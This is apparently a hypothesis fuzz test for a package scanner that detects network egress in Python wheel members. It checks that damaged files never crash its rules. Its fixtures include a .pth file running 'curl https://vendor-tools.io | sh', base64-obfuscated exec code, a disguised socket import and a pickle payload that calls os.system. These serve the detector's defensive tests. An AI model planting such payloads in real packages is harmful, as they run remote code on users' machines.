"""Readers against damaged members: whatever is left of them, there is an answer, and no rule or reader fails."""

import hashlib
import io
import json
import pickle
import struct
import sys
from functools import cache
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from noegress.artifact.member import Member
from noegress.scan.engine import Analysis, analyse

CALL = "import requests\nrequests.post('https://telemetry.vendor-tools.io/v1/events', json={})\n"
ADDRESS = b"\0https://updates.vendor-tools.io/releases/latest\0VENDOR_TOOLS_TELEMETRY\0"
CARRIED = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\ngetattr(__import__('so' + 'cket'), 'x'[::-1])\n"


@cache
def seeds() -> dict[str, bytes]:
    """Members of each kind that a reader is for; the native ones begin as those of this interpreter's system do."""
    native = Path(sys.executable).resolve().read_bytes()[:2048]
    portable = b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0\x64\x86\1\0" + bytes(200)
    settings_file = {"endpoint": "https://api.vendor-tools.io/v1", "deep": [[{"url": "//cdn.vendor-tools.io/a.js"}]]}
    cells = [{"cell_type": "code", "source": CALL.splitlines(keepends=True)}, {"cell_type": "markdown", "source": "x"}]
    stream = io.BytesIO()
    pickle.Pickler(stream, 4).dump({"host": "api.vendor-tools.io", "many": list(range(40))})
    return {
        "acme/tool.py": CALL.encode() + CARRIED.encode(),
        "acme.pth": b"import os; os.system('curl https://vendor-tools.io | sh')\n./acme\n",
        "acme/native.so": native + ADDRESS,
        "acme/library.dll": portable + ADDRESS,
        "acme/library.dylib": struct.pack("<7L", 0xFEEDFACF, 0x0100000C, 0, 6, 1, 24, 0) + bytes(64) + ADDRESS,
        "acme/data.json": json.dumps(settings_file).encode(),
        "acme/data.toml": b"[server]\nurl = 'https://api.vendor-tools.io/v1'\n",
        "acme/book.ipynb": json.dumps({"cells": cells, "metadata": {}}).encode(),
        "acme/page.html": b"<script src='https://cdn.vendor-tools.io/a.js'></script><img src=//p.vendor-tools.io>",
        "acme/tool.js": b"fetch('https://api.vendor-tools.io/v1'); new Worker(`//cdn.vendor-tools.io/w.js`)",
        "acme/model.pkl": stream.getvalue() + b"cos\nsystem\n(S'id'\ntR.",
        "acme/tool.pyc": b"\xa7\r\r\n" + struct.pack("<LQ", 1, 0) + b"\xe3" + bytes(30),
        "acme-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: acme\nVersion: 1.0\n",
        "acme-1.0.dist-info/entry_points.txt": b"[console_scripts]\nacme = acme.tool:main\n",
        "acme-1.0.dist-info/RECORD": b"acme/tool.py,sha256=AAAA,10\nacme-1.0.dist-info/RECORD,,\n",
    }


@st.composite
def damaged(draw: st.DrawFn, content: bytes) -> bytes:
    """Some bytes changed, cut out, doubled or put in, or the end cut off."""
    left = bytearray(content)
    for _ in range(draw(st.integers(1, 5))):
        at, length = draw(st.integers(0, len(left))), draw(st.integers(0, 60))
        kind = draw(st.sampled_from(["change", "cut", "double", "insert", "end"]))
        if kind == "change":
            left[at : at + 1] = draw(st.binary(min_size=1, max_size=1))
        elif kind == "cut":
            del left[at : at + length]
        elif kind == "double":
            left[at:at] = left[at : at + length] * draw(st.integers(1, 30))
        elif kind == "insert":
            left[at:at] = draw(
                st.binary(max_size=20) | st.sampled_from([b"\0" * 40, b"\xff" * 8, b"\r", b"\\\n", b"'''", b"(" * 300])
            )
        else:
            del left[at:]
    return bytes(left)


def scanned(name: str, content: bytes) -> Analysis:
    """A member beside a call of another one."""
    files = {"acme/__init__.py": b"from acme import tool, use\n", "acme/use.py": CALL.encode(), name: content}
    members = (Member(name=path, content=each, sha256=hashlib.sha256(each).hexdigest()) for path, each in files.items())
    return analyse(members, kind="wheel", name="acme")


@pytest.mark.parametrize("name", seeds())
@settings(max_examples=25)
@given(data=st.data())
def test_a_damaged_member_has_an_answer(name: str, data: st.DataObject) -> None:
    analysis = scanned(name, data.draw(damaged(seeds()[name])))
    assert "rule-crashed" not in {finding.rule for finding in analysis.findings}
    assert "telemetry.vendor-tools.io" in analysis.egress  # whatever lies beside it, the call is told


@pytest.mark.parametrize("name", ["acme.pth", "acme/page.html", "acme/tool.js", "acme/model.pkl"])
def test_a_member_as_it_is_tells_something(name: str) -> None:
    assert name in {finding.place.file for finding in scanned(name, seeds()[name]).findings}
